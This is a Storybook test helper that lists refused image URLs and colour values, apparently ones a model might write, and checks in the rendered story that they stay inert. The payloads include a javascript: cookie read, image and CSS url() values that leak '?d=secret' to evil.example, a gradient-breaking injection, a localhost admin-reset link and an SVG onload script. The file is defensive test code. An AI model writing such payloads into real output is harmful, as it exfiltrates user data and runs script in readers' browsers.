import { expect } from "storybook/test";

/** Picture URLs a model could write to run script, leave the page's origin, or reach the person's machine. */
export const refusedUrls = {
  script: "javascript:alert(document.cookie)",
  protocolRelative: "//evil.example/pixel.png?d=secret",
  backslash: "/\\evil.example/pixel.png?d=secret",
  http: "http://evil.example/pixel.png?d=secret",
  localhost: "http://localhost:8080/admin/reset",
  svg: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
};

/** Colours a model could write to make a swatch's gradient fetch a URL. */
export const refusedColors = {
  url: "url(https://evil.example/leak?d=secret)",
  closesGradient: "red), url(https://evil.example/leak?d=secret",
};

/**
 * A story's check that the refused payloads stayed inert: no picture or inline style
 * names them, no computed background loads a URL, the browser made no request for them,
 * and each refused option shows its label in a placeholder.
 */
export async function expectInert(root: HTMLElement, labels: string[]) {
  const payloads = [...Object.values(refusedUrls), ...Object.values(refusedColors)];
  const rendered = [...root.querySelectorAll("[src], [style]")].flatMap((element) => [
    element.getAttribute("src") ?? "",
    element.getAttribute("style") ?? "",
  ]);
  await expect(rendered.filter((value) => payloads.some((payload) => value.includes(payload)))).toEqual([]);
  const backgrounds = [...root.querySelectorAll("*")].map((element) => getComputedStyle(element).backgroundImage);
  await expect(backgrounds.filter((image) => image.includes("url("))).toEqual([]);
  const requests = performance.getEntriesByType("resource").map((entry) => entry.name);
  await expect(requests.filter((name) => name.includes("evil.example") || name.includes("localhost:8080"))).toEqual([]);
  const placeholders = [...root.querySelectorAll("[data-placeholder]")].map((element) => element.textContent);
  await expect(placeholders).toEqual(labels);
}
